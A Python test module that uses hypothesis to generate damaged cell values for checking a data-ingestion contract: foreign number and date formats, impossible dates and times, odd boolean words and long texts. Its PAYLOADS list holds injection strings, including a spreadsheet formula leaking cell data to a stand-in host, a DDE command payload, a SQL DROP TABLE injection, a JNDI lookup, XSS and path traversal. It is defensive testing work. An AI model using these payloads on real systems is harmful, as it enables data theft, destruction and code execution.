"""Damage to single values: other types, other countries' writing, payloads, other values."""

import re
from datetime import date
from decimal import Decimal

from hypothesis import strategies as st

from ingest.contract import Column
from tests.damage.exports import Export
from tests.damage.registry import ANY, Draw, a_cell, cell_becomes, seen, unseen

NUMBERS = ("integer", "decimal", "float")
DAYS = ("date", "timestamp")
TYPED = (*NUMBERS, *DAYS, "boolean")
ISO = re.compile(r"(\d{4})-?(\d{2})-?(\d{2})(.*)", re.DOTALL)

PAYLOADS = (
    '=HYPERLINK("http://x.example?"&A1,"open")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3",
    "\t=1+1", "Robert'); DROP TABLE raw.hubspot__contacts;--", '" or 1=1 --', "{{ 7 * 7 }}",
    "${jndi:ldap://x}", "<script>alert(1)</script>", "../../etc/passwd", "%s%n%d", "\\N", "\\",
    "👩\u200d👩\u200d👧 \u202eabc", "a\u0301", "NULL", "None", "null", "nan", "\x02\x03", "'", "''",
)  # fmt: skip


def _one_of(draw: Draw, *texts: str) -> str:
    return draw(st.sampled_from(texts))


@seen(*ANY)
def words_for_a_value(export: Export, draw: Draw) -> Export | None:
    word = _one_of(draw, "n/a", "NULL", "unknown", "#REF!", "#N/A", "none", "?", "-", "x", "NaN")
    if word in export.table.null_tokens:
        return None
    return cell_becomes(export, draw, TYPED, lambda _, __: word)


@seen(*ANY)
def payload_for_a_value(export: Export, draw: Draw) -> Export | None:
    payload = draw(st.sampled_from([text for text in PAYLOADS if not re.match(r"[-+]?\d", text)]))
    return cell_becomes(export, draw, TYPED, lambda _, __: payload)


@seen(*ANY)
def fraction_for_a_whole_number(export: Export, draw: Draw) -> Export | None:
    fraction = _one_of(draw, ".7", ".5", ".0", ".49", "e0", "E2", ".")
    return cell_becomes(export, draw, ["integer"], lambda _, text: text + fraction)


@seen(*ANY)
def number_as_another_country_writes_it(export: Export, draw: Draw) -> Export | None:
    write = {
        "1.234,56": lambda n: f"{n + 1000:,.2f}".translate(str.maketrans(",.", ".,")),
        "1,234.56": lambda n: f"{n + 1000:,.2f}",
        "1234,56": lambda n: f"{n:.2f}".replace(".", ","),
        "1 234.56": lambda n: f"{n + 1000:,.2f}".replace(",", "\u00a0"),
        "1'234.56": lambda n: f"{n + 1000:,.2f}".replace(",", "'"),
    }
    written = write[_one_of(draw, *write)]
    return cell_becomes(
        export, draw, ["integer", "decimal"], lambda _, text: written(Decimal(text))
    )


@seen(*ANY)
def number_with_something_around_it(export: Export, draw: Draw) -> Export | None:
    around = _one_of(
        draw, "€{}", "{} EUR", "$ {}", "({})", "{}-", "{}%", " {}", "{} ", "\u00a0{}", "{}\u200b",
        "'{}", "--{}", "+-{}", "{}\t", "~{}", "\u2212{}", "{}x", "0x{}", "{}_000",
    )  # fmt: skip
    return cell_becomes(export, draw, NUMBERS, lambda _, text: around.format(text))


@seen(*ANY)
def digits_of_another_script(export: Export, draw: Draw) -> Export | None:
    first = draw(st.sampled_from([0x0660, 0x06F0, 0x0966, 0xFF10]))
    digits = {ord(str(n)): first + n for n in range(10)}
    return cell_becomes(export, draw, (*NUMBERS, *DAYS), lambda _, text: text.translate(digits))


@seen(*ANY)
def number_beyond_its_type(export: Export, draw: Draw) -> Export | None:
    whole = _one_of(draw, "9223372036854775808", "-9223372036854775809", "1" * 40, "1e400", "inf")
    return cell_becomes(export, draw, ["integer", "decimal"], lambda _, __: whole)


@seen(*ANY)
def more_decimals_than_are_kept(export: Export, draw: Draw) -> Export | None:
    digits = _one_of(draw, "1.1234567", "0.30000000000000004", "1e-7", "2.5000001")
    return cell_becomes(export, draw, ["decimal"], lambda _, __: digits)


@unseen("1.234 is also a number in a country that writes thousands with a point", *ANY)
def point_between_thousands(export: Export, draw: Draw) -> Export | None:
    def written(_: Column, text: str) -> str | None:
        whole = f"{int(Decimal(text)) + 1000:,}".replace(",", ".")
        return whole if whole.count(".") == 1 else None

    return cell_becomes(export, draw, ["decimal"], written)


@seen(*ANY)
def day_as_another_country_writes_it(export: Export, draw: Draw) -> Export | None:
    form = _one_of(
        draw, "{2}.{1}.{0}{3}", "{1}/{2}/{0}{3}", "{2}/{1}/{0}{3}", "{0}/{1}/{2}{3}",
        "{2}-{1}-{0}{3}", "Jan {2}, {0}", "{2} Januar {0}", "{0}-W05-3", "{0}-{1}", "45678.5",
    )  # fmt: skip
    return _another_day(export, draw, form)


@seen(*ANY)
def day_that_is_none(export: Export, draw: Draw) -> Export | None:
    form = _one_of(
        draw, "{0}-02-30{3}", "{0}-13-01{3}", "{0}-00-10{3}", "0000-00-00{3}", "{0}-{1}-32{3}",
        "{0}-2-3{3}", "2026-02-29{3}", "12026-01-01{3}", "-001-01-01{3}", "0000-01-01{3}",
        "{0}-{1}-{2}{3}{3}T", " {0}-{1}-{2}{3}",
    )  # fmt: skip
    return _another_day(export, draw, form)


def _another_day(export: Export, draw: Draw, form: str) -> Export | None:
    def written(column: Column, text: str) -> str | None:
        match = None if column.format.startswith("epoch") else ISO.fullmatch(text)
        return form.format(*match.groups()) if match else None

    return cell_becomes(export, draw, DAYS, written)


@seen(*ANY)
def time_that_is_none(export: Export, draw: Draw) -> Export | None:
    time = _one_of(
        draw, "T24:01:00Z", "T25:00:00Z", "T10:61:00Z", "T10:00:61Z", "T1:00:00Z", "T10:00:00 PM",
        "T10:00:00+99:00", "T10:00:00 Europe/Berlin", "T10:00:00CET", "T10:00:00ZZ", "T10",
        "T10:00:00+2", "T10:00:00.Z", "T10:00:60Z", "T10:00:00 +02:00",
    )  # fmt: skip
    return cell_becomes(
        export, draw, ["timestamp"], lambda _, text: text[:10] + time if ISO.match(text) else None
    )


@seen(*ANY)
def instant_of_a_finer_unit(export: Export, draw: Draw) -> Export | None:
    zeros = _one_of(draw, "000", "000000", ".0", ".5")

    def finer(column: Column, text: str) -> str | None:
        return text + zeros if column.format.startswith("epoch") else None

    return cell_becomes(export, draw, ["timestamp"], finer)


@unseen("fewer digits are an instant of 1970", *ANY)
def instant_of_a_coarser_unit(export: Export, draw: Draw) -> Export | None:
    def coarser(column: Column, text: str) -> str | None:
        return text[:-3] if column.format.startswith("epoch") else None

    return cell_becomes(export, draw, ["timestamp"], coarser)


@unseen("a time without a zone is UTC by contract, whoever wrote it", *ANY)
def zone_of_another_clock(export: Export, draw: Draw) -> Export | None:
    zone = _one_of(draw, "", "+02:00", "-0530", "+14", "+00:00")

    def zoned(_: Column, text: str) -> str | None:
        return text.removesuffix("Z") + zone if text.endswith("Z") else None

    return cell_becomes(export, draw, ["timestamp"], zoned)


@unseen("both are days", *ANY)
def day_and_month_swapped(export: Export, draw: Draw) -> Export | None:
    def swapped(column: Column, text: str) -> str | None:
        match = ISO.fullmatch(text)
        if column.format != "iso" or not match or match[2] == match[3] or int(match[3]) > 12:
            return None
        return f"{match[1]}-{match[3]}-{match[2]}{match[4]}"

    return cell_becomes(export, draw, DAYS, swapped)


@unseen("a day of another year is a day", *ANY)
def day_far_away(export: Export, draw: Draw) -> Export | None:
    year = _one_of(draw, "1899", "1970", "2038", "2999", "0001", "9999")
    assert date(int(year), 1, 1)
    return _another_day(export, draw, year + "-{1}-{2}{3}")


@seen(*ANY)
def word_for_yes_or_no(export: Export, draw: Draw) -> Export | None:
    word = _one_of(draw, "yes", "Ja", "t", "on", "2", " true", "wahr", "01", "true ")
    return cell_becomes(export, draw, ["boolean"], lambda _, __: word)


@unseen("an empty cell is allowed where the contract says so", *ANY)
def cell_emptied(export: Export, draw: Draw) -> Export | None:
    return cell_becomes(export, draw, [], lambda _, __: "")


@unseen("any text is a text", *ANY)
def payload_in_a_text(export: Export, draw: Draw) -> Export | None:
    payload = draw(st.sampled_from(PAYLOADS))
    return cell_becomes(export, draw, ["string"], lambda _, __: payload)


@unseen("any text is a text, however long", *ANY)
def text_of_many_characters(export: Export, draw: Draw) -> Export | None:
    length = draw(st.sampled_from([1_000, 70_000, 200_000]))
    return cell_becomes(export, draw, ["string"], lambda _, text: text + "ä" * length)


@unseen("spaces around a text are part of it", *ANY)
def spaces_around_a_text(export: Export, draw: Draw) -> Export | None:
    around = _one_of(draw, " {}", "{} ", "\t{}", "{}\u00a0", " ", "{}\n", "\n{}")
    return cell_becomes(export, draw, ["string"], lambda _, text: around.format(text))


@unseen("one address in other letters is one address", *ANY)
def address_in_other_letters(export: Export, draw: Draw) -> Export | None:
    style = draw(st.sampled_from([str.upper, str.title, lambda text: f"  {text} "]))
    return cell_becomes(
        export, draw, ["string"], lambda _, text: style(text) if "@" in text else None
    )


@unseen("what a spreadsheet makes of a number that is a text is a text", *ANY)
def number_that_a_spreadsheet_changed(export: Export, draw: Draw) -> Export | None:
    form = _one_of(draw, "{:.5E}", "{}.0", "0{}", "{:,}")
    return cell_becomes(
        export,
        draw,
        ["string"],
        lambda _, text: form.format(int(text)) if text.isascii() and text.isdecimal() else None,
    )


@unseen("the value of another row is a value", *ANY)
def value_of_another_row(export: Export, draw: Draw) -> Export | None:
    found = a_cell(export, draw)
    if found is None:
        return None
    row, column, text = found
    others = [other for at in range(len(export.rows)) if (other := export.cell(at, column))]
    other = draw(st.sampled_from(others))
    return export.with_cell(row, column, other) if other != text else None
